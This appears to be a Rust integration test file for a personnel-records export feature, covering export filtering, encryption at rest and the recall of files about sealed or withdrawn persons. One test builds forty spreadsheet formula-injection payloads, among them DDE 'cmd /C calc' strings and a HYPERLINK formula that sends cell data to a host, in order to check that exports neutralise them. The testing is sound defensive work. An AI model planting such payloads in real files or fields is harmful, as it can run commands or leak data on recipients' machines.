//! What is in a file that left, and what becomes of it.
use jindu::personnel::{self, Ending};
use jindu::platform::id::Id;
use jindu_tests::support::{NORTH_VILLAGE, TestApp};
use serde_json::{Value, json};

use super::{
    EXPORTS, NUMBER, PERSONNEL, approver, ask, decide, fetch, id, lines, link, look, register, requester, sheet, taken,
    wanted,
};

/// How a spreadsheet is made to reckon (SECURITY B6): signs, full width, blanks before, other programs called.
const SIGNS: [&str; 8] = ["=", "+", "-", "@", "＝", "＋", "－", "＠"];
const FORMULAS: [&str; 5] = [
    "1+1",
    "cmd|' /C calc'!A0",
    "HYPERLINK(\"http://127.0.0.1/?x=\"&A1,\"点这里\")",
    "SUM(1,1)*cmd|'x'!A1",
    "DDE(\"cmd\";\"/C calc\";\"x\")",
];

#[actix_web::test]
async fn the_file_holds_what_the_list_shows() {
    let app = TestApp::in_two_towns().await;
    let caller = requester(&app);
    register(&caller, "罗会腾", Some(NUMBER)).await;
    let detained = json!({ "name": "周岚", "division_code": NORTH_VILLAGE, "status": "detained" });
    let gone = caller.post(PERSONNEL, &detained).await.id();
    for (name, held_on) in [("宣传一", "2025-06-01"), ("宣传二", "2025-06-26")] {
        let event = json!({ "kind": "publicity", "held_on": held_on, "title": name, "division_code": NORTH_VILLAGE });
        caller.post("/api/v1/events", &event).await.created();
    }
    for (resource, filter) in [
        ("personnel", ""),
        ("personnel", "status=detained"),
        ("personnel", "status=detained,in_community&sort=file_no"),
        ("personnel", "q=罗"),
        ("personnel", "division=990981108"),
        ("events", "q=宣传二"),
        ("events", ""),
        ("premises", ""),
        ("inspections", ""),
    ] {
        let shown = caller
            .get(&format!(
                "/api/v1/{resource}?{}",
                filter.replace('罗', "%E7%BD%97").replace("宣传二", "%E5%AE%A3%E4%BC%A0%E4%BA%8C")
            ))
            .await
            .ok();
        let body = json!({ "resource": resource, "filter": filter, "format": "ndjson", "purpose": "与列表核对" });
        let file = taken(&app, &caller, &body).await;
        assert_eq!(json!(lines(&file).len() - 1), shown["total"], "{resource} {filter}");
    }
    let asked =
        |filter: &str| json!({ "resource": "personnel", "filter": filter, "format": "csv", "purpose": "与列表核对" });
    for (filter, code) in
        [("pgae=1", "parameter.unknown"), ("status=nothing", "parameter.value"), ("q=%00", "text.nul")]
    {
        let refused = caller.post(EXPORTS, &asked(filter)).await;
        assert_eq!((refused.status, refused.errors()), (422, vec![("/filter", code)]), "{refused}");
    }
    let nothing = json!({ "resource": "journal", "format": "csv", "purpose": "与列表核对" });
    assert_eq!(caller.post(EXPORTS, &nothing).await.errors(), [("/resource", "export.resource.unknown")]);
    // A file that was withdrawn is out of the list, and of the next export.
    caller.having_read(1).post(&format!("{PERSONNEL}/{gone}/withdraw"), &json!({ "reason": "重复登记" })).await.ok();
    assert_eq!(
        lines(
            &taken(&app, &caller, &json!({ "resource": "personnel", "format": "ndjson", "purpose": "与列表核对" }))
                .await
        )
        .len(),
        2
    );
}

#[actix_web::test]
async fn no_spreadsheet_reckons_with_what_was_entered() {
    let app = TestApp::in_two_towns().await;
    let caller = requester(&app);
    let payloads: Vec<String> =
        SIGNS.iter().flat_map(|sign| FORMULAS.map(|formula| format!("{sign}{formula}"))).collect();
    assert_eq!(payloads.len(), 40);
    for title in &payloads {
        let event =
            json!({ "kind": "publicity", "held_on": "2025-06-01", "title": title, "division_code": NORTH_VILLAGE });
        caller.post("/api/v1/events", &event).await.created();
    }
    let body = |format: &str| json!({ "resource": "events", "format": format, "purpose": "报送活动台账" });
    let csv = taken(&app, &caller, &body("csv")).await.text;
    let quoted = |cell: &str| format!("'{cell}").replace('"', "\"\"");
    for payload in &payloads {
        assert!(csv.contains(&quoted(payload)), "{payload}");
    }
    let cells = csv.split([',', '\n']).map(|cell| cell.trim_start_matches(['"', '\u{feff}']));
    let live: Vec<&str> = cells.filter(|cell| SIGNS.iter().any(|sign| cell.starts_with(sign))).collect();
    assert_eq!(live, Vec::<&str>::new());

    let text = sheet(&taken(&app, &caller, &body("xlsx")).await);
    assert!(!text.contains("<f>") && !text.contains("<f "), "no cell is a formula");
    assert_eq!(text.matches("<c ").count(), text.matches("t=\"inlineStr\"").count(), "every cell is text");
    assert!(text.contains("=1+1") && text.contains("＠1+1"), "{text}");

    let file = taken(&app, &caller, &body("ndjson")).await;
    let titles: Vec<Value> = lines(&file).into_iter().skip(1).map(|line| line["title"].clone()).collect();
    assert!(payloads.iter().all(|payload| titles.contains(&json!(payload))), "data stays as it was entered");
}

#[actix_web::test]
async fn nothing_of_a_file_lies_open_on_disk() {
    let app = TestApp::in_two_towns().await;
    let caller = requester(&app);
    register(&caller, "罗会腾", Some(NUMBER)).await;
    let export = ask(&caller, &wanted("ndjson", &["name"])).await;
    decide(&approver(&app), &export, "approve").await.ok();
    app.write_exports();
    let files = app.export_files();
    assert_eq!(files.len(), 2);
    for file in files {
        let bytes = std::fs::read(&file).expect("bytes");
        assert!(!bytes.windows("罗会腾".len()).any(|bytes| bytes == "罗会腾".as_bytes()), "{}", file.display());
    }
    assert!(fetch(&caller, &export).await.text.contains("罗会腾"));
}

/// "The sealed lived on in a file": of whom no list tells any more, no file of a list does.
#[actix_web::test]
async fn a_file_about_somebody_who_is_sealed_or_withdrawn_is_erased() {
    let app = TestApp::in_two_towns().await;
    let caller = requester(&app);
    let ids = [register(&caller, "罗会腾", Some(NUMBER)).await, register(&caller, "周岚", None).await];
    let mut files = Vec::new();
    for (number, id_of_person) in ids.iter().enumerate() {
        let export = ask(&caller, &wanted("csv", &[])).await;
        app.write_exports();
        let token = link(&caller, &export).await.created()["token"].clone();
        if number == 0 {
            let id: Id = id_of_person.parse().expect("an id");
            let ending = Ending {
                decided_on: "2025-06-26".parse().expect("a day"),
                document_no: "封存1号".into(),
                decided_by: "周岚".into(),
            };
            app.run(|access| access.write_blocking(move |tx| personnel::seal(tx, id, ending)).expect("it is sealed"));
        } else {
            let why = json!({ "reason": "重复登记" });
            caller.having_read(1).post(&format!("{PERSONNEL}/{id_of_person}/withdraw"), &why).await.ok();
        }
        // Before anybody has tidied up, the link that was good is so no more.
        let download = format!("{EXPORTS}/{}/download", id(&export));
        let refused = caller.post(&download, &json!({ "token": token })).await;
        assert_eq!((refused.status, refused.code()), (409, "export.recalled"), "{refused}");
        files.push(export);
    }
    let event =
        json!({ "kind": "publicity", "held_on": "2025-06-26", "title": "宣传", "division_code": NORTH_VILLAGE });
    caller.post("/api/v1/events", &event).await.created();
    let others = json!({ "resource": "events", "format": "csv", "purpose": "报送季度台账" });
    let others = ask(&caller, &others).await;
    app.write_exports();
    app.tidy_exports();
    for export in &files {
        let line = look(&caller, export).await;
        assert_eq!((&line["state"], &line["failure"]), (&json!("expired"), &json!("recalled")), "{line}");
    }
    assert_eq!(look(&caller, &others).await["state"], "ready");
    assert_eq!(app.export_files().len(), 2, "what tells of nobody who is gone stays");
    let entries = app.user(&["audit:read"]).get(&format!("/api/v1/journal?subject={}", id(&files[0]))).await.ok();
    assert_eq!(entries["items"][0]["action"], "recalled");
}
